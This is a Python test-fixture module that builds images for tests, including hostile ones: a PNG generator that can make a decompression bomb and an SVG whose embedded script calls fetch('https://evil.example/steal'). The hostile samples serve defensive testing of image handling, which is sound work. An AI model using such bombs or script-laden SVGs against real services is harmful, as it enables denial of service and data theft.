"""Pictures for the tests, made with Pillow at test time: real ones, and hostile ones."""

from __future__ import annotations

import io
import struct
import zlib

from PIL import Image

RED, GREEN, BLUE = (220, 30, 30), (30, 200, 60), (40, 60, 220)


def picture(kind: str, size: tuple[int, int] = (64, 48), color: tuple[int, ...] = RED) -> bytes:
    """A real picture of one colour in ``kind`` (PNG, JPEG, GIF, WEBP, BMP)."""
    out = io.BytesIO()
    Image.new("RGB", size, color).save(out, kind)
    return out.getvalue()


def animated_gif(frames: int, size: tuple[int, int] = (32, 32)) -> bytes:
    """A GIF of ``frames`` frames: the first red, the others blue and green by turns."""
    colours = [RED] + [(BLUE, GREEN)[n % 2] for n in range(frames - 1)]
    images = [Image.new("RGB", size, c) for c in colours]
    out = io.BytesIO()
    images[0].save(out, "GIF", save_all=True, append_images=images[1:], duration=20, loop=0)
    return out.getvalue()


def _chunk(kind: bytes, data: bytes) -> bytes:
    return struct.pack(">I", len(data)) + kind + data + struct.pack(">I", zlib.crc32(kind + data))


def png_header(width: int, height: int, rows: int = 1) -> bytes:
    """A PNG that claims ``width`` x ``height`` (grey) with ``rows`` rows of zeros: a small
    file, as large as it likes once decoded (a decompression bomb when ``rows`` is all)."""
    packer = zlib.compressobj(9)
    row = b"\x00" * (width + 1)
    body = b"".join(packer.compress(row) for _ in range(rows)) + packer.flush()
    return (
        b"\x89PNG\r\n\x1a\n"
        + _chunk(b"IHDR", struct.pack(">IIBBBBB", width, height, 8, 0, 0, 0, 0))
        + _chunk(b"IDAT", body)
        + _chunk(b"IEND", b"")
    )


SVG = (
    b'<?xml version="1.0"?><svg xmlns="http://www.w3.org/2000/svg" width="10" height="10">'
    b'<script>fetch("https://evil.example/steal")</script><rect width="10" height="10"/></svg>'
)
